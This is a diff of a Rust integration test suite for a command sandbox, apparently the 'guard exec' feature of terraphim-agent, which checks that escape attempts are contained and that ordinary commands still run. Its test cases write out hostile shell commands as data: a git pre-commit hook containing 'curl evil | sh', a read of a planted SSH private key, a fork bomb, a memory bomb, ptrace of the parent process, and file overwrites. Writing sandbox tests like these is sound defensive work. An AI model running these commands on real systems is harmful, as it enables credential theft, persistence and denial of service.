@@ -29,8 +29,8 @@ fn real_home() -> PathBuf {
 }
 
 fn write(path: &Path, text: &str) {
-    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-    std::fs::write(path, text).unwrap();
+    fs_err::create_dir_all(path.parent().unwrap()).unwrap();
+    fs_err::write(path, text).unwrap();
 }
 
 impl World {
@@ -38,13 +38,18 @@ impl World {
         let tmp = tempfile::tempdir().unwrap();
         let w = Self { tmp };
         for d in ["home", "config", "data", "tmp", "project", "crate"] {
-            std::fs::create_dir_all(w.root().join(d)).unwrap();
+            fs_err::create_dir_all(w.root().join(d)).unwrap();
         }
         write(&w.home().join(".ssh/id_ed25519"), SECRET);
         write(&w.project().join("README"), "hello from the project\n");
         write(&w.project().join(".env"), &format!("API={SECRET}\n"));
-        std::os::unix::fs::symlink(w.home().join(".ssh/id_ed25519"), w.project().join("leak")).unwrap();
-        let git = Command::new("git").args(["init", "-q"]).current_dir(w.project()).status().unwrap();
+        std::os::unix::fs::symlink(w.home().join(".ssh/id_ed25519"), w.project().join("leak"))
+            .unwrap();
+        let git = Command::new("git")
+            .args(["init", "-q"])
+            .current_dir(w.project())
+            .status()
+            .unwrap();
         assert!(git.success());
         let profiles = w.root().join("config/terraphim/guard/profiles");
         let readonly = include_str!("../../../../kg/profiles/readonly.toml");
@@ -56,9 +61,18 @@ impl World {
             .replace("output_mb = 16", "output_mb = 1");
         write(&profiles.join("tight.toml"), &tight);
         // CPU time lags the wall clock on a loaded machine: give the CPU limit room to fire first.
-        write(&profiles.join("spin.toml"), &tight.replace("wall_seconds = 3", "wall_seconds = 10"));
-        write(&w.root().join("crate/Cargo.toml"), "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
-        write(&w.root().join("crate/src/main.rs"), "fn main() { println!(\"tiny built\"); }\n");
+        write(
+            &profiles.join("spin.toml"),
+            &tight.replace("wall_seconds = 3", "wall_seconds = 10"),
+        );
+        write(
+            &w.root().join("crate/Cargo.toml"),
+            "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
+        );
+        write(
+            &w.root().join("crate/src/main.rs"),
+            "fn main() { println!(\"tiny built\"); }\n",
+        );
         w
     }
 
@@ -74,8 +88,10 @@ impl World {
 
     fn command(&self, mode: Mode, cwd: &Path, args: &[&str]) -> Command {
         let mut cmd = Command::new(env!("CARGO_BIN_EXE_terraphim-agent"));
-        let cargo_home = std::env::var("CARGO_HOME").unwrap_or_else(|_| real_home().join(".cargo").display().to_string());
-        let rustup_home = std::env::var("RUSTUP_HOME").unwrap_or_else(|_| real_home().join(".rustup").display().to_string());
+        let cargo_home = std::env::var("CARGO_HOME")
+            .unwrap_or_else(|_| real_home().join(".cargo").display().to_string());
+        let rustup_home = std::env::var("RUSTUP_HOME")
+            .unwrap_or_else(|_| real_home().join(".rustup").display().to_string());
         cmd.args(args)
             .current_dir(cwd)
             .env_clear()
@@ -88,7 +104,10 @@ impl World {
             .env("RUSTUP_HOME", rustup_home)
             .env("CARGO_NET_OFFLINE", "true")
             .env("GITHUB_TOKEN", "ghp-token-7d2e")
-            .env("TERRAPHIM_GUARD_NO_BWRAP", if mode == Mode::Native { "1" } else { "0" })
+            .env(
+                "TERRAPHIM_GUARD_NO_BWRAP",
+                if mode == Mode::Native { "1" } else { "0" },
+            )
             .stdin(Stdio::null());
         if let Ok(t) = std::env::var("RUSTUP_TOOLCHAIN") {
             cmd.env("RUSTUP_TOOLCHAIN", t);
@@ -98,13 +117,30 @@ impl World {
 
     fn exec(&self, mode: Mode, profile: &str, cwd: &Path, shell: &str) -> Outcome {
         static N: AtomicU32 = AtomicU32::new(0);
-        let report = self.root().join(format!("report-{}.json", N.fetch_add(1, Ordering::Relaxed)));
+        let report = self
+            .root()
+            .join(format!("report-{}.json", N.fetch_add(1, Ordering::Relaxed)));
         let r = report.display().to_string();
         let out = self
-            .command(mode, cwd, &["guard", "exec", "--profile", profile, "--report", &r, "--", shell])
+            .command(
+                mode,
+                cwd,
+                &[
+                    "guard",
+                    "exec",
+                    "--profile",
+                    profile,
+                    "--report",
+                    &r,
+                    "--",
+                    shell,
+                ],
+            )
             .output()
             .unwrap();
-        let report = std::fs::read_to_string(&report).ok().map(|t| serde_json::from_str(&t).unwrap());
+        let report = fs_err::read_to_string(&report)
+            .ok()
+            .map(|t| serde_json::from_str(&t).unwrap());
         Outcome {
             code: out.status.code(),
             stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
@@ -124,15 +160,29 @@ struct Outcome {
 
 impl Outcome {
     fn kinds(&self) -> Vec<String> {
-        let Some(r) = &self.report else { return Vec::new() };
-        r["violations"].as_array().unwrap().iter().map(|v| v["kind"].as_str().unwrap().to_owned()).collect()
+        let Some(r) = &self.report else {
+            return Vec::new();
+        };
+        r["violations"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|v| v["kind"].as_str().unwrap().to_owned())
+            .collect()
     }
 }
 
 /// What the machine offers, asked from the binary itself.
 fn host() -> Value {
-    let out = Command::new(env!("CARGO_BIN_EXE_terraphim-agent")).args(["guard", "profiles", "--json"]).output().unwrap();
-    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let out = Command::new(env!("CARGO_BIN_EXE_terraphim-agent"))
+        .args(["guard", "profiles", "--json"])
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     serde_json::from_slice(&out.stdout).unwrap()
 }
 
@@ -167,8 +217,6 @@ enum Code {
     Fail,
     /// Exactly this.
     Is(i32),
-    /// Any: the command may recover (a fork bomb whose forks were refused ends normally).
-    Any,
 }
 
 /// How a case must end.
@@ -181,6 +229,9 @@ enum Expect {
     Refused { stderr: &'static str },
 }
 
+/// A check on the world after a run.
+type AfterCheck = dyn Fn(&World, &Outcome) -> Result<(), String> + Sync;
+
 struct Case {
     name: &'static str,
     profile: &'static str,
@@ -189,15 +240,25 @@ struct Case {
     cwd: &'static str,
     expect: Expect,
     /// A check on the world after the run (the escape left no trace).
-    after: Option<Box<dyn Fn(&World, &Outcome) -> Result<(), String> + Sync>>,
+    after: Option<Box<AfterCheck>>,
 }
 
 fn case(name: &'static str, profile: &'static str, command: &str, expect: Expect) -> Case {
-    Case { name, profile, command: command.to_owned(), cwd: "project", expect, after: None }
+    Case {
+        name,
+        profile,
+        command: command.to_owned(),
+        cwd: "project",
+        expect,
+        after: None,
+    }
 }
 
 impl Case {
-    fn after(mut self, f: impl Fn(&World, &Outcome) -> Result<(), String> + Sync + 'static) -> Self {
+    fn after(
+        mut self,
+        f: impl Fn(&World, &Outcome) -> Result<(), String> + Sync + 'static,
+    ) -> Self {
         self.after = Some(Box::new(f));
         self
     }
@@ -208,14 +269,25 @@ impl Case {
 }
 
 fn no_secret(_: &World, o: &Outcome) -> Result<(), String> {
-    if o.stdout.contains(SECRET) || o.stderr.contains(SECRET) { Err("the secret leaked".into()) } else { Ok(()) }
+    if o.stdout.contains(SECRET) || o.stderr.contains(SECRET) {
+        Err("the secret leaked".into())
+    } else {
+        Ok(())
+    }
 }
 
 fn no_process_with(marker: String) -> impl Fn(&World, &Outcome) -> Result<(), String> + Sync {
     move |_, _| {
-        let out = Command::new("pgrep").args(["-f", &marker]).output().map_err(|e| e.to_string())?;
+        let out = Command::new("pgrep")
+            .args(["-f", &marker])
+            .output()
+            .map_err(|e| e.to_string())?;
         let pids = String::from_utf8_lossy(&out.stdout).trim().to_owned();
-        if pids.is_empty() { Ok(()) } else { Err(format!("processes outlived the run: {pids}")) }
+        if pids.is_empty() {
+            Ok(())
+        } else {
+            Err(format!("processes outlived the run: {pids}"))
+        }
     }
 }
 
@@ -226,25 +298,41 @@ fn check(world: &World, mode: Mode, case: &Case) -> Result<(), String> {
     let ctx = || format!("{} [{mode:?}]: {o:#?}", case.name);
     match &case.expect {
         Expect::Contained { kind, code } => {
-            let Some(report) = &o.report else { return Err(format!("no report: {}", ctx())) };
+            let Some(report) = &o.report else {
+                return Err(format!("no report: {}", ctx()));
+            };
             if !o.kinds().iter().any(|k| k == kind) {
                 return Err(format!("no `{kind}` violation: {}", ctx()));
             }
-            let want_backend = if mode == Mode::Bwrap { "native+bwrap" } else { "native" };
+            let want_backend = if mode == Mode::Bwrap {
+                "native+bwrap"
+            } else {
+                "native"
+            };
             if report["backend"] != want_backend {
                 return Err(format!("backend is not {want_backend}: {}", ctx()));
             }
             for v in report["violations"].as_array().unwrap() {
                 let ev = v["evidence"].as_str().unwrap_or("");
-                let sourced = ["seccomp: ", "supervisor: ", "helper: ", "signal ", "stderr heuristic: ", "command text: ", "exit status "];
+                let sourced = [
+                    "seccomp: ",
+                    "supervisor: ",
+                    "helper: ",
+                    "signal ",
+                    "stderr heuristic: ",
+                    "command text: ",
+                    "exit status ",
+                ];
                 if !sourced.iter().any(|s| ev.starts_with(s)) {
                     return Err(format!("evidence without a source `{ev}`: {}", ctx()));
                 }
             }
             match code {
-                Code::Is(c) if o.code != Some(*c) => return Err(format!("exit code is not {c}: {}", ctx())),
+                Code::Is(c) if o.code != Some(*c) => {
+                    return Err(format!("exit code is not {c}: {}", ctx()));
+                }
                 Code::Fail if o.code == Some(0) => return Err(format!("exit code 0: {}", ctx())),
-                _ => {}
+                Code::Is(_) | Code::Fail => {}
             }
         }
         Expect::Works { stdout } => {
@@ -276,10 +364,21 @@ fn run_table(mode: Mode, cases: Vec<Case>) {
     }
     let world = World::new();
     let failures: Vec<String> = std::thread::scope(|s| {
-        let handles: Vec<_> = cases.iter().map(|c| s.spawn(|| check(&world, mode, c))).collect();
-        handles.into_iter().filter_map(|h| h.join().unwrap().err()).collect()
+        let handles: Vec<_> = cases
+            .iter()
+            .map(|c| s.spawn(|| check(&world, mode, c)))
+            .collect();
+        handles
+            .into_iter()
+            .filter_map(|h| h.join().unwrap().err())
+            .collect()
     });
-    assert!(failures.is_empty(), "{} case(s) failed:\n{}", failures.len(), failures.join("\n\n"));
+    assert!(
+        failures.is_empty(),
+        "{} case(s) failed:\n{}",
+        failures.len(),
+        failures.join("\n\n")
+    );
 }
 
 fn escapes(mode: Mode) -> Vec<Case> {
@@ -290,14 +389,39 @@ fn escapes(mode: Mode) -> Vec<Case> {
     let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
     udp.set_nonblocking(true).unwrap();
     let udp_port = udp.local_addr().unwrap().port();
-    let tag = format!("{}{}", std::process::id(), if mode == Mode::Bwrap { 1 } else { 2 });
+    let tag = format!(
+        "{}{}",
+        std::process::id(),
+        if mode == Mode::Bwrap { 1 } else { 2 }
+    );
     let tcp = std::sync::Mutex::new(tcp);
     let tag2 = tag.clone();
     let udp = std::sync::Mutex::new(udp);
     let hooks = match mode {
-        Mode::Bwrap => case("write .git/hooks under build", "build", "echo 'curl evil | sh' > .git/hooks/pre-commit", Contained { kind: "fs-write", code: Code::Fail })
-            .after(|w, _| if w.project().join(".git/hooks/pre-commit").exists() { Err("hook written".into()) } else { Ok(()) }),
-        Mode::Native => case("write .git/hooks under build", "build", "echo 'curl evil | sh' > .git/hooks/pre-commit", Refused { stderr: "inside a writable root" }),
+        Mode::Bwrap => case(
+            "write .git/hooks under build",
+            "build",
+            "echo 'curl evil | sh' > .git/hooks/pre-commit",
+            Contained {
+                kind: "fs-write",
+                code: Code::Fail,
+            },
+        )
+        .after(|w, _| {
+            if w.project().join(".git/hooks/pre-commit").exists() {
+                Err("hook written".into())
+            } else {
+                Ok(())
+            }
+        }),
+        Mode::Native => case(
+            "write .git/hooks under build",
+            "build",
+            "echo 'curl evil | sh' > .git/hooks/pre-commit",
+            Refused {
+                stderr: "inside a writable root",
+            },
+        ),
     };
     vec![
         case("read the planted secret", "readonly", "cat ~/.ssh/id_ed25519", Contained { kind: "fs-read", code: Code::Fail }).after(no_secret),
@@ -307,14 +431,14 @@ fn escapes(mode: Mode) -> Vec<Case> {
             .after(move |_, _| {
                 let p = PathBuf::from(format!("/var/tmp/escape-{tag2}"));
                 if p.exists() {
-                    let _ = std::fs::remove_file(&p);
+                    let _ = fs_err::remove_file(&p);
                     Err("file written outside".into())
                 } else {
                     Ok(())
                 }
             }),
         case("write into the read-only project", "readonly", "echo pwned > README", Contained { kind: "fs-write", code: Code::Fail }).after(|w, _| {
-            let text = std::fs::read_to_string(w.project().join("README")).unwrap();
+            let text = fs_err::read_to_string(w.project().join("README")).unwrap();
             if text.contains("pwned") { Err("README overwritten".into()) } else { Ok(()) }
         }),
         hooks,
@@ -340,7 +464,7 @@ fn escapes(mode: Mode) -> Vec<Case> {
             if o.stdout.contains("ghp-token-7d2e") { Err("the token leaked".into()) } else { Ok(()) }
         }),
         case("ptrace the parent", "readonly", "/usr/bin/python3 -c 'import ctypes, os, sys; l = ctypes.CDLL(None, use_errno=True); sys.exit(0 if l.ptrace(16, os.getppid(), 0, 0) == 0 else 1)'", Contained { kind: "ptrace", code: Code::Fail }),
-        case("fork bomb", "tight", &format!("bomb{tag}() {{ bomb{tag} | bomb{tag} & }}; bomb{tag}; wait"), Contained { kind: "spawn", code: Code::Any })
+        case("fork bomb", "tight", &format!("bomb{tag}() {{ bomb{tag} | bomb{tag}; }}; bomb{tag}"), Contained { kind: "spawn", code: Code::Is(124) })
             .after(no_process_with(format!("bomb{tag}"))),
         case("memory bomb", "tight", "/usr/bin/python3 -c 'x = bytearray(512 * 1024 * 1024)'", Contained { kind: "memory", code: Code::Fail }),
         case("CPU spin", "spin", "while :; do :; done", Contained { kind: "cpu", code: Code::Fail }),
@@ -364,13 +488,53 @@ fn positives() -> Vec<Case> {
     use Expect::*;
     vec![
         case("ls", "readonly", "ls", Works { stdout: "README" }),
-        case("cat a project file", "readonly", "cat README", Works { stdout: "hello from the project" }),
-        case("cargo --version", "readonly", "cargo --version", Works { stdout: "cargo " }),
-        case("a pipeline", "readonly", "cat README | tr a-z A-Z | grep -c HELLO", Works { stdout: "1" }),
-        case("git status", "readonly", "git status --short --branch", Works { stdout: "## " }),
-        case("temporary files", "readonly", "echo scratch > \"$TMPDIR/x\" && cat \"$TMPDIR/x\"", Works { stdout: "scratch" }),
-        case("strict: one program", "strict", "cat README", Works { stdout: "hello" }),
-        case("cargo build under build", "build", "cargo build -q --offline && ./target/debug/tiny", Works { stdout: "tiny built" }).in_dir("crate"),
+        case(
+            "cat a project file",
+            "readonly",
+            "cat README",
+            Works {
+                stdout: "hello from the project",
+            },
+        ),
+        case(
+            "cargo --version",
+            "readonly",
+            "cargo --version",
+            Works { stdout: "cargo " },
+        ),
+        case(
+            "a pipeline",
+            "readonly",
+            "cat README | tr a-z A-Z | grep -c HELLO",
+            Works { stdout: "1" },
+        ),
+        case(
+            "git status",
+            "readonly",
+            "git status --short --branch",
+            Works { stdout: "## " },
+        ),
+        case(
+            "temporary files",
+            "readonly",
+            "echo scratch > \"$TMPDIR/x\" && cat \"$TMPDIR/x\"",
+            Works { stdout: "scratch" },
+        ),
+        case(
+            "strict: one program",
+            "strict",
+            "cat README",
+            Works { stdout: "hello" },
+        ),
+        case(
+            "cargo build under build",
+            "build",
+            "cargo build -q --offline && ./target/debug/tiny",
+            Works {
+                stdout: "tiny built",
+            },
+        )
+        .in_dir("crate"),
     ]
 }
 
@@ -399,14 +563,31 @@ fn unknown_profile_is_a_usage_error() {
     let world = World::new();
     let o = world.exec(Mode::Native, "nope", &world.project(), "true");
     assert_eq!(o.code, Some(2), "{o:#?}");
-    assert!(o.stderr.contains("unknown sandbox profile `nope` (known: build, readonly, spin, strict, tight)"), "{o:#?}");
+    assert!(
+        o.stderr.contains(
+            "unknown sandbox profile `nope` (known: build, readonly, spin, strict, tight)"
+        ),
+        "{o:#?}"
+    );
 }
 
 #[test]
 fn json_report_is_the_last_stderr_line_and_stdout_streams() {
     let world = World::new();
     let out = world
-        .command(Mode::Native, &world.project(), &["guard", "exec", "--json", "--id", "t-1", "--", "echo out; echo err >&2; exit 3"])
+        .command(
+            Mode::Native,
+            &world.project(),
+            &[
+                "guard",
+                "exec",
+                "--json",
+                "--id",
+                "t-1",
+                "--",
+                "echo out; echo err >&2; exit 3",
+            ],
+        )
         .output()
         .unwrap();
     assert_eq!(out.status.code(), Some(3));
@@ -414,7 +595,14 @@ fn json_report_is_the_last_stderr_line_and_stdout_streams() {
     let stderr = String::from_utf8_lossy(&out.stderr);
     let last = stderr.lines().last().unwrap();
     let report: Value = serde_json::from_str(last).unwrap();
-    assert_eq!((report["schema"].as_u64(), report["id"].as_str(), report["exit_code"].as_i64()), (Some(1), Some("t-1"), Some(3)));
+    assert_eq!(
+        (
+            report["schema"].as_u64(),
+            report["id"].as_str(),
+            report["exit_code"].as_i64()
+        ),
+        (Some(1), Some("t-1"), Some(3))
+    );
     assert_eq!(report["profile"], "readonly");
     assert!(stderr.starts_with("err\n"), "{stderr}");
     let mut removed = String::new();
